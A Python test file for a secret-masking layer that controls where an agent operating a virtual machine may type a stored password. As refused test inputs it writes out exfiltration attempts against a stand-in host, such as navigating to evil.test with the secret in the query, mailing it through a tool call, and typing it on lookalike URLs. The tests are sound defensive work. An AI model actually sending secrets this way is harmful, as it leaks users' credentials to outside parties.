"""Secrets are bound to kinds of act, hosts and applications, checked where the machine acts."""

from typing import Any, cast

import pytest

from annotation_app.live.secrets import EpisodeSecrets, SecretMaskingMachine, SecretNotAllowed
from annotation_app.tasks.secret_masking import TaskSecret, host_of
from protocol.actions.secrets import SecretUse
from protocol.actions.types import Action, CallTool, Navigate, RunCommand, TypeText
from protocol.blobs import BlobRef
from protocol.trajectory.observations import Observation, Transition, Verdict
from tests.unit.annotation_app.live.test_secret_masking import text_observation
from vm_bridge.errors import OutcomeUnknown, UnsupportedAction
from vm_bridge.machine import Machine
from vm_bridge.machine_io import ScreenTexts

TYPE = TypeText(text="secret:SHOP\n")
TYPING = frozenset({"type_text"})


class Page:
    """A machine whose browser is at an address; it notes what reached it."""

    def __init__(self, url: str, application: str | None = None) -> None:
        self.url, self.application = url, application
        self.done: list[Action] = []

    async def observe(self, *, settle: bool = False) -> Observation:
        return text_observation(self.url).model_copy(update={"application": self.application})

    async def screen_texts(self) -> ScreenTexts:
        return ScreenTexts(words=("blue", "horse"))

    async def evaluate(self, *, answer: str = "") -> Verdict:
        return Verdict(success=False, score=0.0, reason=f"the field holds hunter2!, not {answer}")

    async def perform(
        self,
        command_id: str,
        action: Action,
        *,
        settle: bool = True,
        snapshot: bool = False,
        expected: BlobRef | None = None,
        wait_for_timers: bool = True,
    ) -> Transition:
        self.done.append(action)
        frame = text_observation(self.url)
        return Transition(before=frame, after=frame, started_at=frame.captured_at, ended_at=frame.captured_at)


def secrets(**bound: Any) -> EpisodeSecrets:
    made = EpisodeSecrets()
    made.by_name = {"SHOP": TaskSecret("hunter2!", **{"kinds": TYPING, **bound})}
    return made


@pytest.mark.parametrize(
    ("bound", "host", "reason"),
    [
        ({}, "", "may not be used by MCP servers"),
        ({"kinds": frozenset({"mcp_server"}), "hosts": ("mcp.test",)}, "evil.test", "not at evil.test"),
        ({"kinds": frozenset({"mcp_server"}), "hosts": ("mcp.test",)}, "", "not inside the machine"),
        ({"kinds": frozenset({"mcp_server"}), "applications": ("xterm",)}, "", "certain applications only"),
    ],
)
def test_an_mcp_server_gets_no_secret_that_is_bound_elsewhere(bound: dict[str, Any], host: str, reason: str) -> None:
    with pytest.raises(SecretNotAllowed, match=reason):
        secrets(**bound).server_value("SHOP", host)
    with pytest.raises(SecretNotAllowed, match="no secret OTHER"):
        secrets(**bound).server_value("OTHER", host)


def test_an_mcp_server_gets_a_secret_that_is_bound_to_it() -> None:
    allowed = secrets(kinds=frozenset({"mcp_server"}), hosts=("*.mcp.test",))
    assert allowed.server_value("SHOP", "calc.mcp.test") == "hunter2!"


def behind(page: Page, bound: EpisodeSecrets, url: str = "", resumed: str = "") -> SecretMaskingMachine:
    """The machine, whose page was at `url` (where it is now) when the act was decided."""
    return SecretMaskingMachine(cast(Machine, page), bound, lambda: text_observation(url or page.url), resumed=resumed)


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://Shop.Test/a?b", "shop.test"),
        ("https://shop.test:443/", "shop.test"),
        ("http://shop.test:8080/", "shop.test:8080"),
        ("https://shop.test@evil.test/", "evil.test"),
        ("http://[::1]:80/", "[::1]"),
        ("file:///shop.test", ""),
        ("data:text/html,shop.test", ""),
        ("about:blank", ""),
        ("https://shop.test:99999/", ""),
        ("http://[", ""),
    ],
)
def test_the_host_is_that_of_the_page(url: str, host: str) -> None:
    assert host_of(text_observation(url)) == host


@pytest.mark.parametrize(
    ("action", "hosts", "url", "words"),
    [
        (RunCommand(command="echo secret:SHOP"), (), "https://shop.test/", "by type_text only, not by run_command"),
        (CallTool(name="mail", arguments={"to": ["secret:SHOP"]}), (), "https://shop.test/", "not by call_tool"),
        (Navigate(url="https://evil.test/?q=secret:SHOP"), (), "https://shop.test/", "not by navigate"),
        (TYPE, ("shop.test",), "https://evil.test/", "at shop.test only. This page is at evil.test."),
        (TYPE, ("shop.test",), "https://shop.test.evil.test/", "This page is at"),
        (TYPE, ("shop.test",), "https://www.shop.test/", "This page is at"),
        (TYPE, ("*.shop.test",), "https://evilshop.test/", "This page is at"),
        (TYPE, ("shop.test",), "https://shop.test:8443/", "This page is at shop.test:8443."),
        (TYPE, ("shop.test",), "about:blank", "not known"),
    ],
)
async def test_any_other_use_is_refused_and_nothing_is_done(
    action: Action, hosts: tuple[str, ...], url: str, words: str
) -> None:
    page, bound = Page(url), secrets(hosts=hosts)
    with pytest.raises(SecretNotAllowed, match=r"Nothing was done\.") as refused:
        await behind(page, bound).perform("c-1", action)
    assert words in str(refused.value)
    assert refused.value.code == "secret_refused"
    assert page.done == []
    assert bound.to_confirm(action, text_observation(url)) == (), "a refused action needs no confirmation"


@pytest.mark.parametrize("hosts", [(), ("shop.test",), ("*.test",), ("other.test", "shop.test")])
async def test_what_is_allowed_gets_the_value(hosts: tuple[str, ...]) -> None:
    page, bound = Page("https://shop.test/"), secrets(hosts=hosts)
    await behind(page, bound).perform("c-1", TYPE)
    assert page.done == [TypeText(text="hunter2!\n")]
    assert bound.to_confirm(TYPE, text_observation(page.url)) == (SecretUse(name="SHOP", host="shop.test"),)


async def test_a_page_that_moved_on_since_the_decision_gets_nothing() -> None:
    page = Page("https://evil.test/")
    with pytest.raises(SecretNotAllowed, match="another host"):
        await behind(page, secrets(), url="https://shop.test/").perform("c-1", TYPE)
    assert page.done == []


async def test_an_act_that_was_checked_may_be_repeated_after_the_page_moved() -> None:
    """The bridge knows the command: the value does not go to the new page."""
    page = Page("https://shop.test/")
    machine = behind(page, secrets(hosts=("shop.test",)))
    await machine.perform("c-1", TYPE)
    page.url = "https://elsewhere.test/"
    await machine.perform("c-1", TYPE)
    with pytest.raises(SecretNotAllowed):
        await machine.perform("c-2", TYPE)


async def test_after_a_crash_the_outcome_is_unknown() -> None:
    page = Page("https://elsewhere.test/")
    machine = behind(page, secrets(hosts=("shop.test",)), resumed="c-1")
    with pytest.raises(OutcomeUnknown, match="not done again"):
        await machine.perform("c-1", TYPE)
    with pytest.raises(SecretNotAllowed):
        await machine.perform("c-2", TYPE)
    assert page.done == []


async def test_no_text_of_the_screen_is_read_where_there_are_secrets() -> None:
    several_words = EpisodeSecrets()
    several_words.by_name = {"PHRASE": TaskSecret("blue horse", TYPING)}
    assert await behind(Page("http://shop.test/"), several_words).screen_texts() == ScreenTexts()
    assert (await behind(Page("http://shop.test/"), EpisodeSecrets()).screen_texts()).words == ("blue", "horse")


async def test_acts_without_secrets_are_not_looked_at() -> None:
    page = Page("https://evil.test/")
    machine = behind(page, secrets(hosts=("shop.test",)), url="https://shop.test/")
    await machine.perform("c-1", TypeText(text="secret:UNKNOWN"))
    assert page.done == [TypeText(text="secret:UNKNOWN")]


async def test_a_verdict_names_no_secret() -> None:
    verdict = await behind(Page("https://shop.test/"), secrets()).evaluate(answer="x")
    assert verdict.reason == "the field holds secret:SHOP, not x"


def test_what_is_not_masked_is_not_reached() -> None:
    machine = behind(Page("https://shop.test/"), secrets())
    for name in ("files", "terminals"):
        with pytest.raises(UnsupportedAction):
            getattr(machine, name)


def test_what_an_admin_allowed_beforehand_needs_no_confirmation() -> None:
    bound = secrets(hosts=("shop.test",), confirm=False)
    assert bound.to_confirm(TYPE, text_observation("https://shop.test/")) == ()


def in_front(page: Page, bound: EpisodeSecrets, application: str | None) -> SecretMaskingMachine:
    """The machine, on which this application was in front when the act was decided."""
    decided = text_observation(page.url).model_copy(update={"application": application})
    return SecretMaskingMachine(cast(Machine, page), bound, lambda: decided)


@pytest.mark.parametrize(
    ("application", "words"),
    [("mousepad", "in xterm only. mousepad is in front."), (None, "does not tell what is in front")],
)
async def test_a_secret_of_one_application_is_refused_in_others(application: str | None, words: str) -> None:
    bound, desktop = secrets(applications=("xterm",)), Page("", application)
    with pytest.raises(SecretNotAllowed, match=words):
        await in_front(desktop, bound, application).perform("c-1", TYPE)
    assert desktop.done == []
    assert bound.to_confirm(TYPE, await desktop.observe()) == (), "the machine refuses it without a question"


async def test_a_secret_is_used_in_its_application_and_asked_about_there() -> None:
    bound, desktop = secrets(applications=("xterm",)), Page("", "xterm")
    await in_front(desktop, bound, "xterm").perform("c-1", TYPE)
    assert desktop.done == [TypeText(text="hunter2!\n")]
    assert bound.to_confirm(TYPE, await desktop.observe()) == (SecretUse(name="SHOP", host="", application="xterm"),)


async def test_an_application_that_came_to_the_front_since_the_decision_gets_nothing() -> None:
    desktop = Page("", "mousepad")
    with pytest.raises(SecretNotAllowed, match="Another application came to the front"):
        await in_front(desktop, secrets(), "xterm").perform("c-1", TYPE)
    assert desktop.done == []


def test_a_text_with_a_value_is_known() -> None:
    assert secrets().holds_value("I type hunter2! here")
    assert not secrets().holds_value("I type it here")
